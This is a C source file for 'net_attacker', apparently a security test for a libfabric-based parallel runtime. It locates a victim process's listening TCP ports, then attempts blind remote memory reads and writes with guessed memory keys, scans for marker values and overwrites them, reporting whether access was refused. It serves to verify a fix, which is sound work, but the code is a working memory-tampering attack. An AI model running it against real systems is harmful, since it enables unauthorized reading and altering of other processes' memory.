/* net_attacker: a client outside the job, written against stock libfabric (tcp;ofi_rxm), that
 * tries what any host able to reach a PE's provider endpoint could try (issue 30, item 2):
 * blind fi_read / fi_write with guessed memory keys (the old fixed ones: 2 = heap, 3 = data
 * segment, and their neighbours 1 and 4) at offset 0 and small offsets, then a scan of each
 * guessed region for the victim's marker values and a write over what it finds.
 *
 *   net_attacker <victim pid> <global marker hex> <heap marker hex>
 *
 * It knows only the victim's pid, and from it the TCP ports the victim listens on (read from
 * /proc/net/tcp{,6} like `ss -ltnp`: what a port scan of the host would find as well); it tries
 * each port as a libfabric endpoint. It never learns a key from the job.
 *
 * Exit status: 1 when any access succeeded (it prints what it read and what it changed);
 * 0 when an endpoint of the victim answered and refused every access with a provider error;
 * 2 when it could not test (no endpoint answered, or libfabric could not be opened). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <inttypes.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>

#define MAX_PORTS 64
#define SCAN_BYTES (16u << 20)
#define CHUNK 4096u
#define OP_TIMEOUT_S 10

static struct fid_fabric *fabric;
static struct fid_domain *domain;
static struct fid_av *av;
static struct fid_cq *cq;
static struct fid_ep *ep;
static unsigned char *buf;

static int succeeded, refused, no_answer;

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + t.tv_nsec / 1e9;
}

/* The listening TCP sockets of pid: "host port" pairs. */
static int victim_ports(int pid, char hosts[][64], char ports[][8]) {
    unsigned long inodes[256];
    int ni = 0, n = 0;
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    if (!d) {
        perror(path);
        return 0;
    }
    struct dirent *e;
    while ((e = readdir(d)) && ni < 256) {
        char link[384], target[128];
        snprintf(link, sizeof link, "%s/%s", path, e->d_name);
        ssize_t l = readlink(link, target, sizeof target - 1);
        if (l <= 0)
            continue;
        target[l] = 0;
        unsigned long ino;
        if (sscanf(target, "socket:[%lu]", &ino) == 1)
            inodes[ni++] = ino;
    }
    closedir(d);
    const char *tables[2] = {"/proc/net/tcp", "/proc/net/tcp6"};
    for (int t = 0; t < 2; t++) {
        FILE *f = fopen(tables[t], "r");
        if (!f)
            continue;
        char line[512];
        if (!fgets(line, sizeof line, f)) {
            fclose(f);
            continue;
        }
        while (fgets(line, sizeof line, f) && n < MAX_PORTS) {
            char local[64];
            unsigned st, port;
            unsigned long ino;
            /* sl local rem st tx:rx tr:when retrnsmt uid timeout inode */
            if (sscanf(line, " %*s %63[0-9A-Fa-f]:%x %*s %x %*s %*s %*s %*s %*s %lu", local, &port, &st, &ino) != 4)
                continue;
            if (st != 0x0A)
                continue; /* not LISTEN */
            int mine = 0;
            for (int i = 0; i < ni; i++)
                mine |= inodes[i] == ino;
            if (!mine)
                continue;
            if (t == 0) {
                struct in_addr a;
                a.s_addr = (in_addr_t)strtoul(local, NULL, 16); /* the kernel prints it in host order */
                if (a.s_addr == 0)
                    inet_pton(AF_INET, "127.0.0.1", &a);
                inet_ntop(AF_INET, &a, hosts[n], 64);
            } else {
                struct in6_addr a;
                for (int w = 0; w < 4; w++) {
                    char word[9];
                    memcpy(word, local + 8 * w, 8);
                    word[8] = 0;
                    uint32_t v = (uint32_t)strtoul(word, NULL, 16);
                    memcpy(&a.s6_addr[4 * w], &v, 4);
                }
                if (IN6_IS_ADDR_UNSPECIFIED(&a))
                    inet_pton(AF_INET6, "::1", &a);
                inet_ntop(AF_INET6, &a, hosts[n], 64);
            }
            snprintf(ports[n], 8, "%u", port);
            n++;
        }
        fclose(f);
    }
    return n;
}

/* Waits for the one outstanding operation. Returns 0 on success, else the negative error. */
static int wait_op(void) {
    double end = now() + OP_TIMEOUT_S;
    for (;;) {
        struct fi_cq_entry c;
        ssize_t r = fi_cq_read(cq, &c, 1);
        if (r == 1)
            return 0;
        if (r == -FI_EAVAIL) {
            struct fi_cq_err_entry err;
            memset(&err, 0, sizeof err);
            fi_cq_readerr(cq, &err, 0);
            return -(int)(err.err ? err.err : FI_EOTHER);
        }
        if (r != -FI_EAGAIN)
            return (int)r;
        if (now() > end)
            return -FI_ETIMEDOUT;
    }
}

static int connect_to(const char *host, const char *port, fi_addr_t *to);
static const char *cur_host, *cur_port;
static int broken;

static int rma_once(fi_addr_t to, int write, uint64_t key, uint64_t off, size_t len);

/* One fi_read (write = 0) or fi_write of len bytes at offset off with key, on a fresh
 * connection when the last access failed. */
static int rma(fi_addr_t *to, int write, uint64_t key, uint64_t off, size_t len) {
    if (broken) {
        int r = connect_to(cur_host, cur_port, to);
        if (r)
            return r;
    }
    int r = rma_once(*to, write, key, off, len);
    broken = r != 0;
    return r;
}

static int rma_once(fi_addr_t to, int write, uint64_t key, uint64_t off, size_t len) {
    double end = now() + OP_TIMEOUT_S;
    for (;;) {
        ssize_t r = write ? fi_write(ep, buf, len, NULL, to, off, key, NULL)
                          : fi_read(ep, buf, len, NULL, to, off, key, NULL);
        if (r == 0)
            return wait_op();
        if (r != -FI_EAGAIN)
            return (int)r;
        fi_cq_read(cq, NULL, 0); /* progress (tcp;ofi_rxm is manual progress) */
        if (now() > end)
            return -FI_ETIMEDOUT;
    }
}

/* Errors that mean nothing answered on that port (not an endpoint, or gone). */
static int unreachable(int e) {
    return e == -FI_ETIMEDOUT || e == -FI_ECONNREFUSED || e == -FI_EHOSTUNREACH || e == -FI_ENETUNREACH;
}

static void account(const char *what, uint64_t key, uint64_t off, int r) {
    if (r == 0) {
        succeeded++;
        printf("attacker: %s key %" PRIu64 " offset %#" PRIx64 ": SUCCEEDED", what, key, off);
        if (what[0] == 'r')
            printf(" (read %#" PRIx64 ")", *(uint64_t *)buf);
        printf("\n");
    } else if (unreachable(r)) {
        no_answer++;
        printf("attacker: %s key %" PRIu64 " offset %#" PRIx64 ": no answer (%s)\n", what, key, off, fi_strerror(-r));
    } else {
        refused++;
        printf("attacker: %s key %" PRIu64 " offset %#" PRIx64 ": refused: %s (%d)\n", what, key, off, fi_strerror(-r), r);
    }
}

/* Reads up to SCAN_BYTES of (key) looking for marker; on a hit, overwrites it and reads back. */
static void scan(fi_addr_t *to, uint64_t key, uint64_t marker, const char *name) {
    unsigned char *chunk = malloc(CHUNK);
    for (uint64_t off = 0; off < SCAN_BYTES; off += CHUNK) {
        int r = rma(to, 0, key, off, CHUNK);
        if (r != 0) {
            if (off == 0)
                account("read 4 KiB", key, off, r);
            break;
        }
        memcpy(chunk, buf, CHUNK);
        for (uint64_t i = 0; i + 8 <= CHUNK; i += 8) {
            uint64_t v;
            memcpy(&v, chunk + i, 8);
            if (v != marker)
                continue;
            uint64_t at = off + i, changed = marker ^ 0xa77ac4e2a77ac4e2ull;
            printf("attacker: found the victim's %s (%#" PRIx64 ") with key %" PRIu64 " at offset %#" PRIx64 "\n",
                   name, marker, key, at);
            memcpy(buf, &changed, 8);
            int w = rma(to, 1, key, at, 8);
            account("write", key, at, w);
            int rb = rma(to, 0, key, at, 8);
            uint64_t now_v;
            memcpy(&now_v, buf, 8);
            if (w == 0 && rb == 0)
                printf("attacker: CHANGED the victim's %s from %#" PRIx64 " to %#" PRIx64 "\n", name, marker, now_v);
            free(chunk);
            return;
        }
    }
    free(chunk);
}

static struct fi_info *info;

/* The fabric and domain, once. */
static int open_fabric(void) {
    struct fi_info *hints = fi_allocinfo();
    hints->caps = FI_RMA;
    hints->ep_attr->type = FI_EP_RDM;
    hints->domain_attr->mr_mode = 0;
    hints->domain_attr->av_type = FI_AV_TABLE;
    /* a write completes when it is written at the target (or fails), not when it was sent */
    hints->tx_attr->op_flags = FI_DELIVERY_COMPLETE;
    hints->fabric_attr->prov_name = strdup("tcp;ofi_rxm");
    int r = fi_getinfo(FI_VERSION(1, 9), NULL, NULL, 0, hints, &info);
    fi_freeinfo(hints);
    if (r) {
        fprintf(stderr, "attacker: fi_getinfo: %s\n", fi_strerror(-r));
        return r;
    }
    if ((r = fi_fabric(info->fabric_attr, &fabric, NULL)) || (r = fi_domain(fabric, info, &domain, NULL))) {
        fprintf(stderr, "attacker: opening tcp;ofi_rxm: %s\n", fi_strerror(-r));
        return r;
    }
    return 0;
}

/* A fresh endpoint (AV, CQ) with the victim's address inserted: the victim's provider drops
 * the connection after a refused access, and rxm does not connect again on the same one. The
 * old objects are left open (closing an endpoint whose peer went away may wait). */
static int connect_to(const char *host, const char *port, fi_addr_t *to) {
    struct fi_av_attr av_attr = {.type = FI_AV_TABLE};
    struct fi_cq_attr cq_attr = {.format = FI_CQ_FORMAT_CONTEXT};
    int r;
    if ((r = fi_av_open(domain, &av_attr, &av, NULL)) || (r = fi_cq_open(domain, &cq_attr, &cq, NULL)) ||
        (r = fi_endpoint(domain, info, &ep, NULL)) || (r = fi_ep_bind(ep, &av->fid, 0)) ||
        (r = fi_ep_bind(ep, &cq->fid, FI_TRANSMIT | FI_RECV)) || (r = fi_enable(ep))) {
        fprintf(stderr, "attacker: opening an endpoint: %s\n", fi_strerror(-r));
        return r;
    }
    if (fi_av_insertsvc(av, host, port, to, 0, NULL) != 1) {
        fprintf(stderr, "attacker: %s port %s: fi_av_insertsvc failed\n", host, port);
        return -FI_EINVAL;
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: %s <victim pid> <global marker hex> <heap marker hex>\n", argv[0]);
        return 2;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    int pid = atoi(argv[1]);
    uint64_t gmark = strtoull(argv[2], NULL, 16), hmark = strtoull(argv[3], NULL, 16);
    static char hosts[MAX_PORTS][64], ports[MAX_PORTS][8];
    int n = victim_ports(pid, hosts, ports);
    if (n == 0) {
        fprintf(stderr, "attacker: pid %d listens on no TCP port\n", pid);
        return 2;
    }
    if (open_fabric())
        return 2;
    buf = calloc(1, CHUNK);
    int answered = 0;
    for (int p = 0; p < n; p++) {
        fi_addr_t to;
        cur_host = hosts[p];
        cur_port = ports[p];
        if (connect_to(cur_host, cur_port, &to))
            continue;
        broken = 0;
        printf("attacker: trying %s port %s of pid %d\n", hosts[p], ports[p], pid);
        int before = refused + succeeded;
        /* does it answer at all? a read with key 2 at offset 0 */
        int r = rma(&to, 0, 2, 0, 8);
        account("read", 2, 0, r);
        if (unreachable(r))
            continue;
        static const uint64_t keys[] = {1, 2, 3, 4};
        static const uint64_t offs[] = {0, 8, 64, 4096};
        for (unsigned k = 0; k < 4; k++)
            for (unsigned o = 0; o < 4; o++) {
                uint64_t key = keys[k], off = offs[o];
                if (key == 2 && off == 0)
                    continue; /* done above */
                memset(buf, 0, 8);
                int rr = rma(&to, 0, key, off, 8);
                account("read", key, off, rr);
                /* writes back what it read (nothing changes where the read succeeded); where
                 * it failed, writes zeros: that write must fail too */
                if (rr != 0)
                    memset(buf, 0, 8);
                account("write", key, off, rma(&to, 1, key, off, 8));
            }
        for (unsigned k = 0; k < 4; k++) {
            scan(&to, keys[k], gmark, "global");
            scan(&to, keys[k], hmark, "heap word");
        }
        if (refused + succeeded > before)
            answered = 1;
    }
    printf("attacker: %d access(es) succeeded, %d refused by the endpoint, %d without answer\n", succeeded,
           refused, no_answer);
    fflush(stdout);
    /* no teardown: an endpoint with connections to a victim may block in close */
    _exit(succeeded ? 1 : answered ? 0 : 2);
}
